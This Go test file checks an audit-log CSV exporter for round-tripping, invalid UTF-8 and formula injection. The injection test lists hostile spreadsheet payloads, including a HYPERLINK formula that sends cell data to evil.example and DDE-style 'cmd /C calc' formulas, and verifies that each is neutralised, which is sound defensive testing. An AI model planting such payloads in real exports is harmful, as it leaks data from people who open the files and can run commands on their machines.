package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/auditlog/auditlog/audit"
	"github.com/auditlog/auditlog/export"
	"github.com/auditlog/auditlog/gen"
)

func encode(t testing.TB, events []audit.Event) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := export.NewCSVWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i := range events {
		if err := w.Write(&events[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// wantRow is the expected cells of e, written out field by field.
func wantRow(e *audit.Event) []string {
	var diff bytes.Buffer
	enc := json.NewEncoder(&diff)
	enc.SetEscapeHTML(false)
	enc.Encode(e.Diff)
	d := strings.TrimSpace(diff.String())
	if len(e.Diff) == 0 {
		d = "{}"
	}
	ct := "false"
	if e.CrossTenant {
		ct = "true"
	}
	row := []string{e.ID, e.Timestamp.String(), e.TenantID, e.Actor.ID, e.Actor.Email, e.Actor.Role, e.Actor.IP, e.Actor.UserAgent,
		string(e.Action), e.Resource.Type, e.Resource.ID, ct, string(e.Category), string(e.Outcome), e.Reason, d}
	for i, v := range row {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			row[i] = "'" + v
		}
	}
	return row
}

func TestCSVRoundTrip(t *testing.T) {
	g := gen.New(gen.Config{Seed: 5, Tenants: 3, WithIDs: true,
		Start: time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC), End: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}, 2000)
	var events []audit.Event
	for i := 0; i < 2000; i++ {
		events = append(events, g.Next())
	}
	rows, err := csv.NewReader(bytes.NewReader(encode(t, events))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != strings.Join(audit.ExportColumns, ",") {
		t.Fatalf("header %v", rows[0])
	}
	if len(rows) != len(events)+1 {
		t.Fatalf("%d rows for %d events", len(rows)-1, len(events))
	}
	for i, e := range events {
		if got, want := rows[i+1], wantRow(&e); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Fatalf("row %d:\n got %q\nwant %q", i, got, want)
		}
		if got, want := rows[i+1], export.Cells(&e); strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Fatalf("Cells disagrees with the file at row %d:\n got %q\nwant %q", i, got, want)
		}
		// The diff column decodes back to the event's diff.
		var diff map[string]audit.Change
		if err := json.Unmarshal([]byte(rows[i+1][15]), &diff); err != nil || len(diff) != len(e.Diff) {
			t.Fatalf("row %d diff %q: %v", i, rows[i+1][15], err)
		}
	}
}

// TestCSVInjection writes hostile values and reads the file back the way
// a spreadsheet would: no cell may begin with a formula character, and
// each neutralised cell is the original value behind one quote.
func TestCSVInjection(t *testing.T) {
	hostile := []string{
		"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1", "=1,2\n3", "\"=quoted\"", "plain, with comma", "日本語 agent", "safe",
	}
	e := gen.New(gen.Config{Seed: 1, Tenants: 1, WithIDs: true}, 1).Next()
	var events []audit.Event
	for _, h := range hostile {
		x := e
		x.Actor.UserAgent = h
		x.Reason = h
		x.Diff = map[string]audit.Change{h: {From: json.RawMessage(`null`), To: json.RawMessage(`"` + strings.NewReplacer("\"", "\\\"", "\n", "\\n", "\r", "\\r", "\t", "\\t").Replace(h) + `"`)}}
		events = append(events, x)
	}
	data := encode(t, events)
	if !strings.HasPrefix(string(data), "id,timestamp,") {
		t.Fatalf("header: %q", data[:40])
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.Read() // header
	for i := range hostile {
		row, err := r.Read()
		if err != nil {
			t.Fatal(err)
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with a formula character: %q", i, audit.ExportColumns[j], cell)
			}
		}
		ua := row[7]
		want := hostile[i]
		if strings.ContainsRune("=+-@\t\r", rune(want[0])) {
			want = "'" + want
		}
		// A trigger after a tab or line break inside the value is quoted too
		// (a tab-separated or line-based reader starts a new cell there).
		want = strings.NewReplacer("\t=", "\t'=", "\r=", "\r'=", "\n3", "\n3").Replace(want)
		if ua != want || row[14] != want {
			t.Errorf("row %d: userAgent %q reason %q, want %q", i, ua, row[14], want)
		}
	}
	if _, err := r.Read(); err != io.EOF {
		t.Fatalf("trailing data: %v", err)
	}
}

func TestCSVInvalidUTF8(t *testing.T) {
	e := gen.New(gen.Config{Seed: 1, Tenants: 1, WithIDs: true}, 1).Next()
	e.Actor.UserAgent = "bad \xff byte"
	data := encode(t, []audit.Event{e})
	if !bytes.Contains(data, []byte("bad \uFFFD byte")) || bytes.Contains(data, []byte{0xff}) {
		t.Fatalf("invalid UTF-8 kept: %q", data)
	}
}

func BenchmarkCSVRow(b *testing.B) {
	g := gen.New(gen.Config{Seed: 9, Tenants: 3, WithIDs: true}, 1000)
	events := make([]audit.Event, 1000)
	for i := range events {
		events[i] = g.Next()
	}
	w, _ := export.NewCSVWriter(io.Discard)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := w.Write(&events[i%len(events)]); err != nil {
			b.Fatal(err)
		}
	}
	w.Flush()
}
